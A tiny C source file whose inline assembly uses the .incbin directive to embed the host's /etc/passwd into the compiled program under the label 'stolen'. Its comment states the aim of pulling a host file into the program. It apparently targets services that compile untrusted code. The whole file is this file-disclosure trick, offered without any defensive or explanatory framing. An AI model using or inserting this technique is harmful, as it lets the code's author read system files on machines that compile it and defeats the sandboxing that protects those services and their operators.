// Pulls a file of the host into the program, if it can.
asm(".data\nstolen: .incbin \"/etc/passwd\"\n");
int main() {}
